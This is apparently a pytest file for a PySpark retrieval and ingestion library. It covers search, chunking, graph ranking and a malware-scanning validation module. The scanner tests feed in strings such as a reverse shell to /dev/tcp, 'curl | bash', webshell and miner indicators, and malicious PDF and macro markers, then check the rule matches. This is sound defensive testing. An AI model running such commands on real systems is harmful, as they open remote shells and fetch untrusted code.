"""Operators without SQL twin, and cases the test tables lack."""

import io
import json
import tarfile
import zipfile

import numpy as np
import pytest
from pyspark.sql import functions as F

from lorewell.functions import text as t
from lorewell.operators import chunking, graph, maintenance, notes, retrieval, service, validation
from lorewell.sources import files


def test_text_functions(spark):
    df = spark.createDataFrame([("  Éta_1 x ", "a/b.c/.env"), ("", "x/y.tar.GZ")], "s string, p string")
    got = df.select(t.tokens("s").alias("w"), t.strip("s").alias("s"), t.file_name("p").alias("n"), t.stem("p").alias("m"), t.extension("p").alias("e")).collect()
    assert (got[0].w, got[0].s, got[0].n, got[0].m, got[0].e) == (["éta_1", "x"], "Éta_1 x", ".env", ".env", "")
    assert (got[1].w, got[1].m, got[1].e) == ([], "y.tar", ".gz")


def test_exact_nearest_is_brute_force(spark):
    x = np.random.default_rng(1).normal(size=(300, 64)).astype("float32")
    x[7] = x[3]
    df = spark.createDataFrame([(i, v.tolist()) for i, v in enumerate(x)], "id long, v array<float>")
    got = retrieval.exact_nearest(df, df.where("id < 40"), 5).collect()
    u = x.astype("f8") / np.linalg.norm(x.astype("f8"), axis=1, keepdims=True)
    score = np.round((1 + np.round(u @ u.T, 12)) / 2, 6)
    for q in range(40):
        order = sorted((i for i in range(300) if i != q), key=lambda i: (-score[q, i], i))[:5]
        assert [r.id for r in sorted((r for r in got if r.query_id == q), key=lambda r: r["rank"])] == order


def test_usable_vectors(spark):
    good = [1.0] + [0.0] * 63
    rows = [(1, good), (1, good), (2, None), (3, [0.0] * 64), (4, good[:5]), (5, [float("nan")] + good[1:]), (6, [None] + good[1:]), (7, [float("inf")] + good[1:])]
    df = spark.createDataFrame(rows, "rowid long, embedding array<float>")
    assert [r.id for r in retrieval.usable_vectors(df).collect()] == [1]


def test_fusion_adds_and_keeps_first_order(spark):
    v = spark.createDataFrame([(1, 10, 1), (1, 11, 2)], "query_id long, id long, rank long")
    k = spark.createDataFrame([(1, 12, 1), (1, 11, 2)], "query_id long, id long, rank long")
    keys = spark.createDataFrame([(10, "a"), (11, "b"), (12, "c")], "id long, key string")
    got = [(r.id, r.score) for r in retrieval.fuse(v, k, keys).orderBy("rank").collect()]
    assert got == [(11, round(2 / 22, 9)), (10, round(1 / 21, 9)), (12, round(1 / 21, 9))]


def test_decomposition(spark):
    texts = ["position sizing and how it affects risk", "A vs. B side", "alpha beta VS gamma delta or more", "compare x with y", "one or", "what is it? and why?", "sand or gold"]
    got = spark.createDataFrame([(s,) for s in texts], "q string").select(retrieval.is_compound("q").alias("c"), retrieval.sub_queries("q").alias("p")).collect()
    assert [r.c for r in got] == [True] * 7
    assert [r.p for r in got] == [["position sizing", "how it affects risk"], [], ["alpha beta", "gamma delta or more"], [], [], ["what is it?", "why?"], ["sand", "gold"]]


def test_result_cache():
    cache = retrieval.ResultCache(2)
    a, b, c = (cache.key(x) for x in "abc")
    assert cache.key(" A ") == a
    cache.put(a, [1]), cache.put(b, [2]), cache.get(a), cache.put(c, [3])
    assert cache.get(b) is None and cache.get(a) == [1]
    cache.put(b, [])
    assert cache.get(b) is None
    nothing = retrieval.ResultCache(0)
    nothing.put(a, [1])
    assert nothing.get(a) is None


def test_expand_and_embed(spark):
    asked = spark.createDataFrame([(1, ["car", "red"]), (2, ["x"])], "query_id long, words array<string>")
    synonyms = spark.createDataFrame([("car", "auto"), ("car", "vehicle")], "word string, synonym string")
    assert {r.query_id: r.words for r in retrieval.expand(asked, synonyms).collect()} == {1: ["car", "red", "auto", "vehicle"], 2: ["x"]}
    e = {r.id: np.array(r.embedding) for r in retrieval.hash_embedding(spark.createDataFrame([(1, "a b"), (2, "b a"), (3, ""), (4, None)], "id long, t string")).collect()}
    assert np.allclose(e[1], e[2]) and abs(np.linalg.norm(e[1]) - 1) < 1e-6 and not e[3].any() and not e[4].any()


def test_reach_in_a_cycle_and_pagerank(spark):
    edges = spark.createDataFrame([("a", "b"), ("b", "a"), ("b", "c"), ("c", None)], "source_id string, target_id string")
    starts = spark.createDataFrame([("a",)], "node_id string")
    assert {(r.node_id, r.hops) for r in graph.reach(edges, starts, 5).collect()} == {("b", 1), ("c", 2)}
    nodes = spark.createDataFrame([("a",), ("b",), ("c",)], "node_id string")
    ranks = {r.node_id: r["rank"] for r in graph.pagerank(edges.where("target_id is not null"), nodes, 30).collect()}
    assert abs(sum(ranks.values()) - 1) < 1e-9 and ranks["b"] > ranks["a"]


def test_graph_round_trip(spark, tmp_path):
    nodes = spark.createDataFrame([("a", "note")], "node_id string, node_type string")
    edges = spark.createDataFrame([("a", "b", "tag")], "source_id string, target_id string, type string")
    graph.export_json(nodes, edges, str(tmp_path / "g"))
    back = graph.import_json(spark, str(tmp_path / "g"))
    assert back[0].collect() == nodes.collect() and back[1].select("edge_type").first()[0] == "tag"


def test_fixed_chunks():
    text = ("word " * 30 + ". ") * 60
    pieces = chunking.fixed_pieces(text)
    assert all(len(c) <= 2048 for c, _, _ in pieces) and pieces[0][1] == 0 and all(b[1] > a[1] for a, b in zip(pieces, pieces[1:]))
    assert chunking.fixed_pieces("") == [] and chunking.fixed_pieces("  \n ") == [] and len(chunking.fixed_pieces("x" * 5000)) == 3
    assert chunking.fixed_pieces("a" * 1990 + "\n\n" + "b" * 100)[0][0] == "a" * 1990


def test_semantic_and_paragraph_chunks():
    assert [c for c, _, _ in chunking.semantic_pieces("One. Two.\n\nthree", 2)] == ["One.", "Two.", "three"]
    long = chunking.semantic_pieces("x" * 5000)
    assert [k for _, _, k in long] == ["split"] * 3 and sum(len(c) for c, _, _ in long) == 5000
    assert [c for c, _, _ in chunking.paragraph_pieces("a\n\n\n\nb\n\n" + "c" * 3000)] == ["a\n\nb", "c" * 3000]
    assert chunking.chunker("nonsense") is chunking.paragraph_pieces


def test_code_chunks_keep_every_line():
    body = "import os\n\n# about f\n@d\ndef f():\n    return 'é'\n\n" + "".join(f"def g{i}():\n    x = {i}\n\n" for i in range(200))
    pieces = chunking.code_pieces(body)
    assert all(len(c) <= 2048 for c, _, _ in pieces)
    assert "\n".join(c for c, _, _ in pieces).replace("\n", "") == body.replace("\n", "")
    broken = chunking.code_pieces("def (\n" + "x = 1\n" * 900, python=True)
    assert all(len(c) <= 2048 for c, _, _ in broken) and len(broken) > 1
    go = chunking.go_pieces("package a\n\nfunc A() {\n}\n\nfunc B() {\n}\n" * 100)
    assert go and all(len("".join(c.split())) <= 2048 for c, _, _ in go)


def _zip(entries: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return out.getvalue()


def test_archives(spark):
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as z:
        info = tarfile.TarInfo("a.txt")
        info.size = 3
        z.addfile(info, io.BytesIO(b"abc"))
    rows = [("ok", _zip({"a": b"hello"})), ("bomb", _zip({"a": b"0" * 5_000_000})), ("nested", _zip({f"{i}.zip": b"x" for i in range(3)})), ("bad", b"PK\x03\x04junk"), ("tar", tar.getvalue()), ("text", b"plain")]
    got = {r.path: r.problem for r in validation.archive_problems(spark.createDataFrame(rows, "path string, content binary")).collect()}
    assert got == {"ok": None, "bomb": "compression ratio", "nested": "nested archives", "bad": "corrupt archive", "tar": None, "text": None}


def test_header_rules(spark):
    rows = [("a.pdf", b"%PDF-1.4 x %%EOF"), ("b.pdf", b"MZ\x90"), ("c.docx", b"PK\x03\x04"), ("d.md", b"\x7fELF"), ("e.py", b"#!/bin/sh"), ("f.pdf", b"PK\x03\x04"), ("g.txt", b"\xff\xfe" * 9)]
    df = spark.createDataFrame(rows, "p string, content binary").withColumn("kind", validation.file_type("p"))
    got = {r.p: r for r in df.select("p", validation.executable_kind().alias("x"), validation.magic_matches("kind").alias("m"), validation.extension_mismatch("kind").alias("e"), validation.pdf_problem().alias("f"), validation.printable_share().alias("s")).collect()}
    assert got["a.pdf"].m is True and got["a.pdf"].f is None and got["a.pdf"].e is None
    assert got["b.pdf"].x == "Windows PE executable" and got["b.pdf"].e == "Executable masquerading as pdf"
    assert got["c.docx"].m is True and got["c.docx"].e is None and got["f.pdf"].e == "Extension claims pdf but file is zip"
    assert got["d.md"].e.startswith("Executable") and got["e.py"].x == "Shell script" and got["g.txt"].s == 0 and got["a.pdf"].s == 1


def test_pattern_rules(spark):
    rows = ["AUTOOPEN then powershell", "/JavaScript eval( FROMCHARCODE", "stratum+tcp://x", "curl http://x | bash", "bash -i >& /dev/tcp/1", "$_get and system(", "nothing", "xmrig alone", None]
    got = [r.m for r in spark.createDataFrame([(x,) for x in rows], "s string").select(validation.rule_matches("s").alias("m")).collect()]
    assert got[:8] == [["Suspicious_VBA_Macros"], ["Malicious_PDF_JavaScript"], ["Cryptocurrency_Miner"], ["Suspicious_Script_Download"], ["Reverse_Shell"], ["Webshell_Indicators"], [], []] and got[8] == []
    hint = spark.createDataFrame([("a.pdf", "Large_Obfuscated_Data"), ("a.go", "x")], "p string, r string").select(validation.false_positive_hint("p", "r").alias("h")).collect()
    assert [h.h for h in hint] == ["Likely false positive: PDFs use base64 for embedded images/fonts", ""]


def test_scan_cache(spark):
    schema = "file_hash string, is_valid boolean, scanned_at timestamp, scanner_version string"
    old = spark.sql("select 'a' as file_hash, true as is_valid, timestamp'2024-01-01' as scanned_at, '1' as scanner_version")
    new = spark.sql("select 'a' as file_hash, false as is_valid, timestamp'2024-02-01' as scanned_at, '2' as scanner_version")
    after = validation.cache_after(old, new)
    assert [(r.file_hash, r.is_valid) for r in after.collect()] == [("a", False)]
    assert validation.uncached(spark.createDataFrame([("a",), ("b",)], "file_hash string"), after, "2").collect()[0].file_hash == "b"
    assert validation.without_old(after, F.lit("2024-03-05").cast("timestamp"), 30).count() == 0
    assert validation.cache_after(spark.createDataFrame([], schema), old).count() == 1


def test_upsert_and_snapshot(spark, tmp_path):
    stored = spark.createDataFrame([(1, "a", 1), (2, "b", 1)], "k long, v string, at int")
    rows = spark.createDataFrame([(2, "c", 2), (3, "d", 1)], "k long, v string, at int")
    assert sorted(r.v for r in maintenance.upsert(stored, rows, ["k"]).collect()) == ["a", "c", "d"]
    assert sorted(r.v for r in maintenance.upsert(rows, stored, ["k"], "at").collect()) == ["a", "c", "d"]
    path = str(tmp_path / "t")
    maintenance.write_snapshot(stored, path)
    before = maintenance.read_snapshot(spark, path)
    assert maintenance.write_snapshot(maintenance.upsert(maintenance.read_snapshot(spark, path), rows, ["k"]), path) == "v00000002"
    assert maintenance.read_snapshot(spark, path).count() == 3 and before.count() == 2  # an earlier reader keeps its version
    maintenance.write_snapshot(rows, path)
    assert sorted(x.name for x in (tmp_path / "t").iterdir() if x.name[0] == "v") == ["v00000002", "v00000003"]
    d = spark.createDataFrame([(1, "p"), (2, "q")], "doc_id long, file_path string")
    c = spark.createDataFrame([(1, 1), (2, 2)], "id long, document_id long")
    docs, chunks = maintenance.replace_documents(d, c, spark.createDataFrame([(9, "p")], "doc_id long, file_path string"), spark.createDataFrame([(7, 9)], "id long, document_id long"))
    assert sorted(r.doc_id for r in docs.collect()) == [2, 9] and sorted(r.id for r in chunks.collect()) == [2, 7]


def test_scan_folder_hash_list_and_notebook(spark, tmp_path):
    for name in ("a.md", "b.exe", "node_modules/c.md", ".hidden/d.md", "sub/e.py", "original/f.pdf", "x.min.js", "secrets.md"):
        p = tmp_path / "in" / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("x")
    root = str(tmp_path / "in")
    got = files.scan_folder(spark, root)
    assert sorted(r.path.rsplit("/in/", 1)[1] for r in got.select("path").collect()) == ["a.md", "sub/e.py"]
    (tmp_path / "hashes.txt").write_text("# list\n ABC \n\nabc\ndef\n")
    assert sorted(r.file_hash for r in files.hash_list(spark, str(tmp_path / "hashes.txt")).collect()) == ["abc", "def"]
    book = {"cells": [{"cell_type": "markdown", "source": ["# T\n", "x"]}, {"cell_type": "code", "source": []}, {"cell_type": "code", "source": "print(1)"}], "metadata": {"kernelspec": {"language": "julia"}}}
    cells = files.notebook_cells(spark.createDataFrame([("n.ipynb", json.dumps(book)), ("bad", "{")], "path string, content string")).orderBy("page").collect()
    assert [c.text for c in cells] == ["# T\nx", "```julia\nprint(1)\n```"]


def test_routes(spark):
    rows = [("a.md", "see [[X]]"), ("a.md", "#a and #b"), ("a.md", "plain"), ("b.PDF", ""), ("c.ipynb", ""), ("d.exe", ""), ("e.epub", "")]
    assert [r.r for r in spark.createDataFrame(rows, "p string, s string").select(files.route("p", "s").alias("r")).collect()] == ["note", "note", "markdown", "document", "notebook", None, "book"]
    tree = spark.createDataFrame([(r"# A|# B".replace("|", "\n"),)], "t string")
    assert tree.count() == 1


def test_long_go_declarations_are_kept_whole():
    table = "package a\n\nvar t = []string{\n" + "".join(f'\t"entry {i}",\n' for i in range(2000)) + "}\n"
    for code in (table, "var x = `" + "y" * 20_000 + "`\n", "func A() {\n" + (" " * 200 + "b()\n") * 100 + "}\n"):
        pieces = [c for c, _, _ in chunking.go_pieces(code)]
        assert "".join("".join(pieces).split()) == "".join(code.split()) and max(map(len, pieces)) <= 8192


def test_requests_and_settings(spark, tmp_path):
    for text, top, least in ((None, 5, None), ("  ", 5, None), ("x", 0, None), ("x", 51, None), ("x", 5, 1.5), ("x", 5, float("nan"))):
        with pytest.raises(ValueError):
            service.check_request(text, top, least)
    service.check_request("x", 50, 0.0)
    df = spark.createDataFrame([(None, 5, None), (" ", 5, None), ("x", 0, None), ("x", 5, 1.5), ("x", 5, None)], "t string, k int, l double")
    got = [r[0] for r in df.select(service.request_problem(F.col("t"), F.col("k"), F.col("l"))).collect()]
    assert got == ["blank text", "blank text", "top_k out of range", "threshold out of range", None]
    assert service.fetch_size(5, True) == 40 and service.fetch_size(30, True) == 60 and service.fetch_size(5, False) == 5
    file = tmp_path / "s.json"
    file.write_text(json.dumps({"data_folder": "/d", "top": 7}))
    s = service.Settings.load({"LOREWELL_TOP": "9", "LOREWELL_RERANK": "no"}, str(file))
    assert (s.data_folder, s.top, s.rerank, s.max_retries) == ("/d", 9, False, 3)
    with pytest.raises(ValueError):
        service.Settings.load({})
    file.write_text(json.dumps({"data_folder": "/d", "other": 1}))
    with pytest.raises(ValueError):
        service.Settings.load({}, str(file))


def test_jobs_report_progress(spark):
    jobs = service.Jobs(spark)
    key = jobs.start(lambda: spark.range(1000).repartition(4).count())
    assert jobs.result(key, 60) == 1000
    assert jobs.status(key)["state"] == "completed" and jobs.status("?")["state"] == "unknown"
    key = jobs.start(lambda: 1 / 0)
    jobs.result(key, 60)
    assert jobs.status(key)["state"] == "failed" and "division" in jobs.status(key)["error"]


def test_one_question(spark, data):
    name = retrieval.stem_queries(spark, data).first()
    got = service.search(spark, data, " ".join(name.words), 5).collect()
    assert 0 < len(got) <= 5 and [r.place for r in got] == list(range(1, len(got) + 1))
    assert service.search(spark, data, "zzzzunknownzzzz").count() == 0


def test_sparse_search_is_brute_force(spark):
    rng = np.random.default_rng(6)
    texts = [(i, " ".join(f"w{x}" for x in rng.zipf(1.6, 30) % 40), 1.0) for i in range(200)]
    rows = spark.createDataFrame(texts, "id long, content string, w double")
    asked = [(q, [f"w{x}" for x in rng.integers(0, 40, 4)]) for q in range(30)] + [(99, []), (98, ["none"])]
    got = {(r.query_id, r.id): (r.score, r.rank) for r in retrieval.bm25(rows, spark.createDataFrame(asked, "query_id long, words array<string>"), 7).collect()}
    words = {i: t.split() for i, t, _ in texts}
    n, avg = len(texts), np.mean([len(w) for w in words.values()])
    df = {w: sum(w in set(d) for d in words.values()) for w in {x for d in words.values() for x in d}}
    raw = {w: np.log(n - k + 0.5) - np.log(k + 0.5) for w, k in df.items()}
    mean = np.mean(list(raw.values()))
    idf = {w: 0.25 * mean if x < 0 else x for w, x in raw.items()}
    for q, terms in asked:
        score = {i: sum(idf.get(w, 0) * d.count(w) * 2.5 / (d.count(w) + 1.5 * (0.25 + 0.75 * len(d) / avg)) for w in terms) for i, d in words.items()}
        best = sorted(((-round(s, 6), i) for i, s in score.items() if round(s, 6) > 0))[:7]
        assert [(i, k + 1) for k, (_, i) in enumerate(best)] == sorted(((i, r) for (a, i), (_, r) in got.items() if a == q), key=lambda x: x[1])


def test_approximate_search_finds_nearly_all(spark):
    rng = np.random.default_rng(8)
    x = (np.repeat(rng.normal(size=(300, 64)), 20, axis=0) + rng.normal(size=(6000, 64)) * 0.5).astype("float32")
    v = retrieval.usable_vectors(spark.createDataFrame([(i, r.tolist()) for i, r in enumerate(x)], "rowid long, embedding array<float>"))
    asked = v.where("id % 20 = 0")
    exact = {(r.query_id, r.id) for r in retrieval.exact_nearest(v, asked).collect()}
    near = {(r.query_id, r.id) for r in retrieval.approximate_nearest(v, asked, cell_rows=60).collect()}
    assert len(exact) == 3000 and len(exact & near) >= 0.9 * len(exact)
    ball = v.withColumn("v", F.array([F.lit(1.0).cast("float")] * 64))
    assert {r.id for r in retrieval.exact_nearest(ball, ball.where("id = 40"), 5).collect()} == {0, 1, 2, 3, 4}


def test_pagerank_ends_by_tolerance(spark):
    e = spark.createDataFrame([("a", "b"), ("b", "a"), ("c", "a")], "source_id string, target_id string")
    n = spark.createDataFrame([("a",), ("b",), ("c",)], "node_id string")
    r = {x.node_id: x.rank for x in graph.pagerank(e, n).collect()}
    assert abs(sum(r.values()) - 1) < 1e-9 and abs(r["c"] - 0.05) < 1e-9 and abs(r["a"] - (0.05 + 0.85 * (r["b"] + r["c"]))) < 1e-5
    with pytest.raises(RuntimeError):
        graph.pagerank(e, n, rounds=2)


def test_footers_and_vaults(spark):
    notes_ = [("v/a/One.md", "---\ntags: x\n---\nSee [[Two]] and [[Three|3]] #t\n\n# Head\n\nbody"), ("v/Two.md", "back to [[One]], [[One]]"), ("v/.obsidian/x.md", "[[One]]"), ("v/templates/t.md", "x"), ("v/c.txt", "x"), ("v/n.md", None)]
    got = {(r.path, r.chunk_index): r.content for r in notes.extract_vault(spark.createDataFrame(notes_, "path string, text string")).collect()}
    assert {p for p, _ in got} == {"v/a/One.md", "v/Two.md"}
    one = got[("v/a/One.md", 0)]
    assert one.startswith("See [[Two]]") and one.endswith("---\nNote: One\nTags: #t\nLinks to: Two, Three\nLinked from: 1 notes\nRelated notes: Three, Two")
    assert [p[0] for p in notes.section_pieces("a\n\n# b\n\nc\n\n## d")] == ["a", "# b\n\nc", "## d"]


def test_planted_rules_archives_permissions(spark):
    texts = [(1, "powershell AutoOpen"), (2, "bash -i >& /dev/tcp/1"), (3, "$_GET eval("), (4, "clean"), (5, None), (6, "curl http://x | sh"), (7, "stratum+tcp://p"), (8, "/JavaScript /Launch")]
    got = {(r.doc_id, r.rule) for r in validation.matched_rules(spark.createDataFrame(texts, "doc_id long, text string")).collect()}
    assert got == {(1, "Suspicious_VBA_Macros"), (2, "Reverse_Shell"), (3, "Webshell_Indicators"), (6, "Suspicious_Script_Download"), (7, "Cryptocurrency_Miner"), (8, "Malicious_PDF_JavaScript")}
    files_ = [(bytearray(b"#!/bin/sh\n"), "markdown", 0o644), (bytearray(b"#!/bin/sh\n"), "python", 0o755), (bytearray(b"text"), "pdf", 0o755), (bytearray(b"text"), "pdf", 0o644)]
    df = spark.createDataFrame(files_, "content binary, kind string, mode int")
    assert [r[0] for r in df.select(validation.permission_verdict("kind", "mode")).collect()] == ["quarantine", "ok", "remedy", "ok"]
    assert df.select(validation.remedied_mode("mode")).collect()[2][0] == 0o644


def test_scan_takes_the_allowlist_and_the_cache_first(spark):
    f = spark.createDataFrame([(1, "a", "xmrig cryptonight"), (2, "b", "xmrig cryptonight"), (3, "c", "xmrig cryptonight"), (4, "d", "fine"), (5, "e", "fine")], "doc_id long, file_hash string, text string")
    listed = spark.createDataFrame([("a", True), ("d", True)], "file_hash string, listed boolean")
    allowed = spark.createDataFrame([("a",)], "file_hash string")
    cache = spark.createDataFrame([("b", False, "WARNING", "YARAStrategy", "1"), ("e", False, "CRITICAL", "x", "0")], "file_hash string, is_valid boolean, severity string, validation_check string, scanner_version string")
    got = {r.doc_id: (r.source, r.is_valid, r.severity) for r in validation.scan(f, listed, allowed, cache).collect()}
    assert got == {1: ("allowlist", True, "INFO"), 2: ("cache", False, "WARNING"), 3: ("scan", True, "WARNING"), 4: ("scan", False, "CRITICAL"), 5: ("scan", True, "INFO")}
    assert validation.scan(f, listed).count() == 5


def test_quarantine_records(spark):
    results = spark.createDataFrame([(1, "a", False, "CRITICAL", "HashBlacklistStrategy"), (2, "b", False, "WARNING", "YARAStrategy"), (3, "c", False, "CRITICAL", "ArchiveBombStrategy")], "doc_id long, file_hash string, is_valid boolean, severity string, validation_check string")
    paths = spark.createDataFrame([(1, "k/x.pdf"), (2, "k/y.pdf"), (3, "k/z.zip")], "doc_id long, file_path string")
    records = validation.quarantined(results, paths, F.lit("2024-01-01").cast("timestamp"))
    assert {(r.original_path, r.kept_at) for r in records.collect()} == {("k/x.pdf", "quarantine/x.pdf.REJECTED"), ("k/z.zip", "quarantine/z.zip.REJECTED")}
    after = validation.after_restore(records, spark.createDataFrame([("k/x.pdf",), ("other",)], "original_path string"), F.lit("2024-02-01").cast("timestamp"))
    assert {(r.original_path, r.restored) for r in after.collect()} == {("k/x.pdf", True), ("k/z.zip", False)}
    assert [r.original_path for r in validation.after_purge(after, F.lit("2024-03-01").cast("timestamp"), 30).collect()] == ["k/x.pdf"]
    assert validation.after_purge(after, F.lit("2024-01-20").cast("timestamp"), 30).count() == 2


def test_texts_are_not_moved_to_drop_repeated_rows(spark, data):
    from lorewell.operators import quality, relational

    for f in (relational.chunks_with_documents, relational.size_statistics, relational.short_pages, quality.chunk_sizes, quality.boundary_coherence, quality.quality_by_extension, quality.valid_chunks, quality.blank_pages, maintenance.statistics):
        plan = f(spark, data)._jdf.queryExecution().optimizedPlan().toString()
        below = [line for line in plan.split("\n") if "Aggregate [" in line and "content#" in line.split("Aggregate [", 1)[1]]
        assert not [line for line in below if "first(content#" in line], f.__name__
